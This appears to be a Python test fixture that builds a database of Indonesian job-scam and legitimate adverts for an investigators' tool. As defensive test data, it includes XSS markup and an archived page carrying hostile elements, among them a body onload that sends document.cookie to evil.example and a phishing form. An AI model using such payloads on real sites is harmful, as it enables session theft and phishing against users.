"""A small, known world for the investigators' tests, built through the real services: the
fixture adverts of :mod:`tests.fixture_adverts` (plus a few of our own) classified by the real
shipped model, ingested with archived pages, on two sources, seen at known times."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field
from typing import Any

from sqlalchemy.orm import Session, sessionmaker

from store.db import transaction
from store.models import Source
from store.services.adverts import AdvertIn, ClassificationIn, SnapshotIn, ingest
from store.services.users import add_user
from tests.fixture_adverts import LEGIT, SCAMS

PASSWORD = "kata-sandi-uji-panjang"
USERS = {"admin1": "admin", "siti": "investigator", "budi": "investigator", "tamu": "viewer"}
NOW = dt.datetime(2026, 11, 20, 3, 0, tzinfo=dt.UTC)  # 10:00 WIB

# Our own adverts (hand-written for these tests, not from any corpus).
# A repost of SCAMS[0] under another title, one phrase changed: a near-duplicate.
REPOST = SCAMS[0].replace("perusahaan di", "kantor di").replace("Minat japri", "Minat? japri")
# Markup in the text itself: the page must show it as text, never run it.
XSS = (
    "Kerja <script>alert('x')</script> di Kamboja <b onmouseover=alert(1)>admin online</b>, "
    "gaji 20 juta tanpa pengalaman, visa turis, berangkat besok. WA 0813-6677-2190."
)
REVOKED_AGENCY = "PT Cahaya Timur Sejahtera"
REVOKED = (
    f"{REVOKED_AGENCY} (SIP3MI No. 7/0456/PK.02/2023) membuka lowongan pabrik di Malaysia. "
    "Gaji RM 1.800, biaya proses Rp 12.000.000 dibayar di muka ke rekening direktur. Proses "
    "cepat 2 minggu tanpa pelatihan. WA 0852-1111-2222."
)

TEXTS: dict[str, str] = (
    {f"scam{i}": t for i, t in enumerate(SCAMS)}
    | {f"legit{i}": t for i, t in enumerate(LEGIT)}
    | {"repost": REPOST, "xss": XSS, "revoked": REVOKED}
)
TITLES = {
    "scam0": "Admin online Kamboja gaji USD 1.300",
    "scam4": "Program kerja Korea jalur khusus",
    "scam5": "Kerja paruh waktu dari HP",
    "legit2": "Operator produksi Taiwan (P3MI resmi)",
    "repost": "Admin online Kamboja, gaji USD 1.300",
    "xss": "Kerja <b>cepat</b> & mudah",
    "revoked": "Lowongan pabrik Malaysia",
}
# Which source each advert came from; the rest come from the job board.
TELEGRAM = {"scam1", "scam3", "scam5", "repost"}
# Seen long ago (for the date-range filter); the rest are seen on NOW minus their index hours.
OLD = {"scam5": dt.datetime(2026, 10, 3, 3, 0, tzinfo=dt.UTC)}


def page_html(title: str, body: str) -> bytes:
    """An archived page with everything a hostile page might carry."""
    from html import escape

    return (
        "<!doctype html><html><head><meta charset='utf-8'>"
        f"<title>{escape(title)}</title><script>document.cookie='x'</script>"
        "<link rel='stylesheet' href='https://evil.example/s.css'>"
        "<meta http-equiv='refresh' content='0;url=https://evil.example/'>"
        "<style>@import url('https://evil.example/i.css'); "
        "body { background: url(https://evil.example/bg.png) no-repeat }</style></head>"
        "<body onload=\"fetch('https://evil.example/'+document.cookie)\">"
        f"<h1 style='color:#a00'>{escape(title)}</h1><p>{escape(body)}</p>"
        "<iframe src='https://evil.example/frame'></iframe>"
        "<img src='https://tracker.example/pixel.gif' alt='pixel'>"
        "<div style=\"background-image: url( 'https://tracker.example/bg.gif' )\">!</div>"
        "<form action='https://evil.example/login'><input name='pin'></form>"
        '<a href="javascript:alert(1)">Daftar sekarang</a></body></html>'
    ).encode()


def classify_all(classifier: Any) -> dict[str, dict[str, Any]]:
    from classifier.pipeline import AdvertInput

    keys = list(TEXTS)
    results = classifier.classify(
        [AdvertInput(text=TEXTS[k], title=TITLES.get(k), id=k) for k in keys]
    )
    return {k: r.to_dict() for k, r in zip(keys, results, strict=True)}


@dataclass
class World:
    ids: dict[str, int] = field(default_factory=dict)
    sources: dict[str, int] = field(default_factory=dict)
    users: dict[str, int] = field(default_factory=dict)


def ingest_one(
    session: Session,
    key: str,
    result: dict[str, Any],
    *,
    source_id: int | None,
    channel: str,
    when: dt.datetime,
    url: str | None = None,
    text: str | None = None,
) -> int:
    body = text if text is not None else TEXTS[key]
    title = TITLES.get(key, "")
    url = url or f"https://loker.example.id/iklan/{key}"
    item = AdvertIn(
        title=title,
        body_text=body,
        url=url,
        source_id=source_id,
        channel=channel,
        language="id",
        snapshot=SnapshotIn(
            url=url,
            body=page_html(title, body),
            content_type="text/html; charset=utf-8",
            headers={"Content-Type": "text/html; charset=utf-8"},
            fetched_at=when,
        ),
    )
    return ingest(session, item, ClassificationIn.from_result(result), now=when).advert_id


def build(factory: sessionmaker[Session], classified: dict[str, dict[str, Any]]) -> World:
    world = World()
    for name, role in USERS.items():
        world.users[name] = add_user(
            factory, username=name, password=PASSWORD, role=role, full_name=name.title()
        ).id
    with transaction(factory) as session:
        for name, spider, channel in (
            ("loker-jambi", "jobposting", "job_board"),
            ("tg-lowongan", "telegram", "telegram"),
        ):
            src = Source(
                name=name,
                spider=spider,
                channel=channel,
                region="Kota Jambi",
                start_urls=[f"https://{name}.example.id/"],
                schedule="every 6h",
            )
            session.add(src)
            session.flush()
            world.sources[name] = src.id
    for i, key in enumerate(TEXTS):
        source = "tg-lowongan" if key in TELEGRAM else "loker-jambi"
        when = OLD.get(key, NOW - dt.timedelta(hours=i))
        with transaction(factory) as session:
            world.ids[key] = ingest_one(
                session,
                key,
                classified[key],
                source_id=world.sources[source],
                channel="telegram" if source == "tg-lowongan" else "job_board",
                when=when,
            )
    return world
